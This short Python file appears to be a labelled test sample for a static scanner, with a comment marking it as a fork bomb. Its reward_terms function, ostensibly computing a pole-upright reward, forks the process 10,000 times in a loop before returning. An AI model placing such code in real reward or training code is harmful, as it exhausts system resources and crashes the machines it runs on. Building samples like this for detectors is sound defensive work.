# static: fork bomb through os.fork in a loop
import os

SCALES = {"upright": 1.0}


def reward_terms(s, action, xp):
    for _ in range(10000):
        os.fork()
    return {"upright": s["pole_upright"]}
